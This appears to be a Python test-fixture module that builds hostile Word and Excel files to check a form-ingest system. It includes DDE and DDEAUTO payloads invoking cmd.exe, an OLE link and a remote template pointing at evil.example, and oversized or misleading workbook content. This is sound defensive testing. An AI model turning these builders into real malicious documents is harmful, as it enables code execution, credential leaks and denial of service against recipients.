"""Hostile returned files made from a real filled form or workbook: content that is bigger
than it looks, placed elsewhere than it looks, or that reaches outside the file.

Each function copies ``source`` to ``target`` and changes it the way an attacker (or an odd
client) would; the test says what ingest must make of it.
"""

from __future__ import annotations

import shutil
import zipfile
from pathlib import Path

from lxml import etree

from templategen.sample.fill import rewrite_zip, set_cell

S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PR = "http://schemas.openxmlformats.org/package/2006/relationships"
CT = "http://schemas.openxmlformats.org/package/2006/content-types"
NS = {"s": S, "w": W, "r": R, "pr": PR}
REL_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def _parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n) for n in z.namelist()}


def _write(source: Path, target: Path, changed: dict[str, bytes]) -> None:
    """``source`` with ``changed`` parts replaced, and new parts added at the end."""
    parts = _parts(source)
    rewrite_zip(source, {k: v for k, v in changed.items() if k in parts}, target)
    with zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED) as z:
        for name, data in changed.items():
            if name not in parts:
                z.writestr(name, data)


def _xml(data: bytes) -> etree._Element:
    return etree.fromstring(data)


def _bytes(root: etree._Element) -> bytes:
    return etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True)


def _add_rel(rels: bytes | None, rel_id: str, kind: str, target: str,
             external: bool = False) -> bytes:
    root = _xml(rels) if rels else etree.Element(f"{{{PR}}}Relationships", nsmap={None: PR})
    rel = etree.SubElement(root, f"{{{PR}}}Relationship", Id=rel_id, Type=REL_TYPE + kind,
                           Target=target)
    if external:
        rel.set("TargetMode", "External")
    return _bytes(root)


# --- workbooks --------------------------------------------------------------------------


def sheet_parts(parts: dict[str, bytes]) -> dict[str, str]:
    """Sheet title -> its part name."""
    book = _xml(parts["xl/workbook.xml"])
    rels = {r.get("Id"): r.get("Target", "") for r in
            _xml(parts["xl/_rels/workbook.xml.rels"]).iter(f"{{{PR}}}Relationship")}
    out = {}
    for sheet in book.iter(f"{{{S}}}sheet"):
        target = rels[sheet.get(f"{{{R}}}id")]
        out[sheet.get("name")] = target.lstrip("/") if target.startswith("/") else f"xl/{target}"
    return out


def answer_cells(parts: dict[str, bytes]) -> dict[str, tuple[str, str]]:
    """Defined name -> (sheet title, cell) of every tg_ name."""
    book = _xml(parts["xl/workbook.xml"])
    out = {}
    for dn in book.iter(f"{{{S}}}definedName"):
        sheet, cell = (dn.text or "").rsplit("!", 1)
        if dn.get("name", "").startswith("tg_") and ":" not in cell:
            out[dn.get("name")] = (sheet.strip("'"), cell.replace("$", ""))
    return out


def set_cells(source: Path, target: Path, cells: dict[tuple[str, str], object],
              raw: dict[tuple[str, str], tuple[str | None, str]] | None = None,
              extra: dict[str, bytes] | None = None) -> None:
    """Type values into cells (as Excel stores typing), or write a cell's raw ``t`` and
    ``<v>`` (``raw``), and add or replace ``extra`` parts."""
    parts = _parts(source)
    sheets = sheet_parts(parts)
    trees: dict[str, etree._Element] = {}
    for (title, cell), value in {**cells, **(raw or {})}.items():
        part = sheets[title]
        tree = trees.setdefault(part, _xml(parts[part]))
        if (title, cell) in (raw or {}):
            set_cell(tree, cell, "")
            c = next(c for c in tree.iter(f"{{{S}}}c") if c.get("r") == cell)
            kind, text = value  # type: ignore[misc]
            for child in list(c):
                c.remove(child)
            c.attrib.pop("t", None)
            if kind:
                c.set("t", kind)
            etree.SubElement(c, f"{{{S}}}v").text = text
        else:
            set_cell(tree, cell, value)  # type: ignore[arg-type]
    _write(source, target, {**{p: _bytes(t) for p, t in trees.items()}, **(extra or {})})


def shared_string_everywhere(source: Path, target: Path, size: int = 1_000_000) -> None:
    """One ``size``-character shared string, referenced by every answer cell."""
    parts = _parts(source)
    cells = {ref: ("s", "0") for ref in answer_cells(parts).values()}
    sst = (f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{S}" count="1" uniqueCount="1">'
           f"<si><t>{'x' * size}</t></si></sst>").encode()
    types = _xml(parts["[Content_Types].xml"])
    etree.SubElement(types, f"{{{CT}}}Override", PartName="/xl/sharedStrings.xml",
                     ContentType="application/vnd.openxmlformats-officedocument."
                                 "spreadsheetml.sharedStrings+xml")
    set_cells(source, target, {}, raw=cells, extra={
        "xl/sharedStrings.xml": sst, "[Content_Types].xml": _bytes(types),
        "xl/_rels/workbook.xml.rels": _add_rel(parts["xl/_rels/workbook.xml.rels"], "rIdS",
                                               "sharedStrings", "sharedStrings.xml"),
    })


def extra_names(source: Path, target: Path, count: int = 4000) -> None:
    """``count`` more tg_ defined names, each pointing at the first answer cell."""
    parts = _parts(source)
    book = _xml(parts["xl/workbook.xml"])
    names = book.find(f"{{{S}}}definedNames")
    first = names[0].text
    for n in range(count):
        etree.SubElement(names, f"{{{S}}}definedName", name=f"tg_extra_{n}").text = first
    _write(source, target, {"xl/workbook.xml": _bytes(book)})


def repoint_name(source: Path, target: Path, name: str, elsewhere: str, text: str) -> None:
    """Point defined name ``name`` at ``elsewhere`` (a cell of the same sheet) holding
    ``text``; the answer cell the respondent sees keeps its value."""
    parts = _parts(source)
    title, _ = answer_cells(parts)[name]
    book = _xml(parts["xl/workbook.xml"])
    for dn in book.iter(f"{{{S}}}definedName"):
        if dn.get("name") == name:
            dn.text = f"'{title}'!${elsewhere.rstrip('0123456789')}$" \
                      f"{elsewhere.lstrip('ABCDEFGHIJKLMNOPQRSTUVWXYZ')}"
    tmp = target.with_suffix(".tmp.xlsx")
    set_cells(source, tmp, {(title, elsewhere): text})
    _write(tmp, target, {"xl/workbook.xml": _bytes(book)})
    tmp.unlink()


def external_link(source: Path, target: Path) -> None:
    """A DDE link to another program, kept by Excel as an external link part."""
    parts = _parts(source)
    link = (f'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="{S}">'
            '<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0"/>'
            "</ddeItems></ddeLink></externalLink>").encode()
    _write(source, target, {
        "xl/externalLinks/externalLink1.xml": link,
        "xl/_rels/workbook.xml.rels": _add_rel(parts["xl/_rels/workbook.xml.rels"], "rIdX",
                                               "externalLink",
                                               "externalLinks/externalLink1.xml"),
    })


# --- forms ------------------------------------------------------------------------------


def _control(root: etree._Element, key: str) -> etree._Element:
    for sdt in root.iter(f"{{{W}}}sdt"):
        tag = sdt.find("w:sdtPr/w:tag", NS)
        if tag is not None and tag.get(f"{{{W}}}val") == key:
            return sdt
    raise KeyError(key)


def edit_control(source: Path, target: Path, key: str, change) -> None:  # type: ignore[no-untyped-def]
    """Change the XML of one control (found by its tag) as text: ``change(xml) -> xml``."""
    parts = _parts(source)
    root = _xml(parts["word/document.xml"])
    sdt = _control(root, key)
    new = etree.fromstring(change(etree.tostring(sdt)))
    sdt.getparent().replace(sdt, new)
    _write(source, target, {"word/document.xml": _bytes(root)})


def comment_inside_text(source: Path, target: Path, key: str, before: str, after: str) -> None:
    """The answer's text as ``before<!-- … --><?pi …?>after`` inside one w:t."""
    def change(xml: bytes) -> bytes:
        root = etree.fromstring(xml)
        texts = root.findall(".//w:sdtContent//w:t", NS)
        for el in texts[1:] + root.findall(".//w:sdtContent//w:tab", NS) + \
                root.findall(".//w:sdtContent//w:br", NS):
            el.getparent().remove(el)
        texts[0].text = before
        comment = etree.Comment(" verborgen opmerking ")
        texts[0].append(comment)
        pi = etree.ProcessingInstruction("tg", "x")
        texts[0].append(pi)
        pi.tail = after
        return etree.tostring(root)
    edit_control(source, target, key, change)


def hidden_run(source: Path, target: Path, key: str) -> None:
    """Every run of one answer formatted hidden (w:vanish)."""
    def change(xml: bytes) -> bytes:
        root = etree.fromstring(xml)
        for run in root.findall(".//w:sdtContent//w:r", NS):
            rpr = run.find("w:rPr", NS)
            if rpr is None:
                rpr = etree.Element(f"{{{W}}}rPr")
                run.insert(0, rpr)
            etree.SubElement(rpr, f"{{{W}}}vanish")
        return etree.tostring(root)
    edit_control(source, target, key, change)


def dde_field(source: Path, target: Path) -> None:
    """A DDEAUTO field, its code split over two runs as Word does."""
    parts = _parts(source)
    root = _xml(parts["word/document.xml"])
    body = root.find("w:body", NS)
    para = etree.fromstring(
        f'<w:p xmlns:w="{W}"><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>'
        '<w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe '
        '"/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    body.insert(0, para)
    _write(source, target, {"word/document.xml": _bytes(root)})


def outside_parts(source: Path, target: Path) -> None:
    """An OLE object linked from a server, an altChunk, and a remote attached template."""
    parts = _parts(source)
    rels = parts["word/_rels/document.xml.rels"]
    rels = _add_rel(rels, "rIdOle", "oleObject", "\\\\evil.example\\share\\x.bin", True)
    rels = _add_rel(rels, "rIdChunk", "aFChunk", "chunk.html")
    settings = _add_rel(parts.get("word/_rels/settings.xml.rels"), "rIdT", "attachedTemplate",
                        "https://evil.example/t.dotm", True)
    _write(source, target, {"word/_rels/document.xml.rels": rels,
                            "word/chunk.html": b"<html><body>ingevoegd</body></html>",
                            "word/_rels/settings.xml.rels": settings})


def foreign_content(own: Path, foreign: Path, target: Path) -> None:
    """``foreign``'s content under ``own``'s identification (custom properties)."""
    shutil.copy(foreign, target)
    rewrite_zip(target, {"docProps/custom.xml": _parts(own)["docProps/custom.xml"]})
